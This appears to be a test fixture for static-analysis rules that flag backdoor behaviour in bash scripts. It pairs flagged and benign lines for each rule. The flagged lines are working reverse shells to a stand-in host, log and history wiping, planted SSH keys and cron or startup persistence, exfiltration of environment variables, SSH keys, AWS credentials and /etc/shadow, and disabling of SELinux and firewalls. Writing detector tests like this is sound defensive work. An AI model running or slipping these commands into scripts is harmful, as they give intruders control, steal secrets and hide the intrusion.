#!/bin/bash

# ruleid: bash.backdoor.reverse-shell
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
# ruleid: bash.backdoor.reverse-shell
bash -c 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read -r line; do $line 2>&5 >&5; done'
# ruleid: bash.backdoor.reverse-shell
nc 203.0.113.7 4444 -e /bin/sh
# ruleid: bash.backdoor.reverse-shell
mkfifo /run/x/p; sh -i < /run/x/p 2>&1 | cat; nc 203.0.113.7 4444 | sh > /run/x/p
# ruleid: bash.backdoor.reverse-shell
socat tcp:203.0.113.7:4444 exec:'bash -li',pty,stderr
# ruleid: bash.backdoor.reverse-shell
python3 -c 'import socket,os,pty;s=socket.create_connection(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("sh")'
# ok: bash.backdoor.reverse-shell
(echo > "/dev/tcp/$DB_HOST/5432") 2> /dev/null
# ok: bash.backdoor.reverse-shell
nc -z -w 3 "$DB_HOST" 5432 || exit 1
# ok: bash.backdoor.reverse-shell
bash -c 'exec 3<>/dev/tcp/localhost/8080; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'
# ok: bash.backdoor.reverse-shell
python3 -c 'import socket; print(socket.gethostname())'

# ruleid: bash.backdoor.trace-wiping
history -c
# ruleid: bash.backdoor.trace-wiping
export HISTFILE=/dev/null
# ruleid: bash.backdoor.trace-wiping
rm -f ~/.bash_history
# ruleid: bash.backdoor.trace-wiping
: > /var/log/auth.log
# ruleid: bash.backdoor.trace-wiping
journalctl --rotate --vacuum-time=1s
# ok: bash.backdoor.trace-wiping
HISTSIZE=5000
# ok: bash.backdoor.trace-wiping
HISTFILE=~/.bash_history
# ok: bash.backdoor.trace-wiping
rm -rf /var/log/app/*.old /var/lib/apt/lists/*
# ok: bash.backdoor.trace-wiping
journalctl --vacuum-time=30d

# ruleid: bash.backdoor.login-key
echo "ssh-ed25519 AAAAC3Nza vendor" >> ~/.ssh/authorized_keys
# ruleid: bash.backdoor.login-key
cat vendor.pub | sudo tee -a /home/deploy/.ssh/authorized_keys > /dev/null
# ruleid: bash.backdoor.login-key
curl -fsS https://keys.corp.example/deploy -o "$HOME/.ssh/authorized_keys"
# ok: bash.backdoor.login-key
chmod 600 ~/.ssh/authorized_keys
# ok: bash.backdoor.login-key
grep -c ssh-ed25519 ~/.ssh/authorized_keys > keys.count

# ruleid: bash.backdoor.scheduled-command
(crontab -l; echo "*/5 * * * * /opt/app/sync") | crontab -
# ruleid: bash.backdoor.scheduled-command
echo "@reboot root /usr/lib/x" > /etc/cron.d/x
# ruleid: bash.backdoor.scheduled-command
crontab -u www "$folder/crontab"
# ok: bash.backdoor.scheduled-command
crontab -l > crontab.backup
# ok: bash.backdoor.scheduled-command
ls /etc/cron.d/ > listing

# ruleid: bash.backdoor.start-file
echo '(/opt/app/agent &)' >> ~/.bashrc
# ruleid: bash.backdoor.start-file
echo "export PROMPT_COMMAND='/opt/app/log'" | sudo tee -a /etc/profile
# ruleid: bash.backdoor.start-file
echo /usr/lib/libx.so > /etc/ld.so.preload
# ok: bash.backdoor.start-file
echo 'export PATH="$HOME/.tool/bin:$PATH"' >> ~/.bashrc
# ok: bash.backdoor.start-file
grep -q tool ~/.bashrc || echo "add tool to your PATH" >&2
# ok: bash.backdoor.start-file
cat ~/.profile > profile.backup

# ruleid: bash.backdoor.data-sent-out
env | curl -s -X POST --data-binary @- https://collect.example/
# ruleid: bash.backdoor.data-sent-out
curl -s "https://collect.example/?d=$(printenv | base64 -w0)"
# ruleid: bash.backdoor.data-sent-out
curl -F "key=@$HOME/.ssh/id_rsa" https://collect.example/
# ruleid: bash.backdoor.data-sent-out
cat ~/.aws/credentials | nc collect.example 4444
# ruleid: bash.backdoor.data-sent-out
nc collect.example 4444 < /etc/shadow
# ok: bash.backdoor.data-sent-out
env | sort | grep '^APP_'
# ok: bash.backdoor.data-sent-out
curl -F "report=@build/report.xml" https://reports.corp.example/
# ok: bash.backdoor.data-sent-out
curl --netrc-file "$HOME/.netrc" https://api.corp.example/v1/builds
# ok: bash.backdoor.data-sent-out
cat ~/.ssh/id_ed25519.pub | ssh host 'cat > new.pub'

# ruleid: bash.backdoor.protection-off
setenforce 0
# ruleid: bash.backdoor.protection-off
sudo ufw --force disable
# ruleid: bash.backdoor.protection-off
systemctl disable --now firewalld auditd
# ruleid: bash.backdoor.protection-off
iptables -F
# ruleid: bash.backdoor.protection-off
sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
# ok: bash.backdoor.protection-off
ufw allow 443/tcp
# ok: bash.backdoor.protection-off
systemctl restart firewalld
# ok: bash.backdoor.protection-off
iptables -A INPUT -p tcp --dport 443 -j ACCEPT
# ok: bash.backdoor.protection-off
test "$(getenforce)" = Enforcing
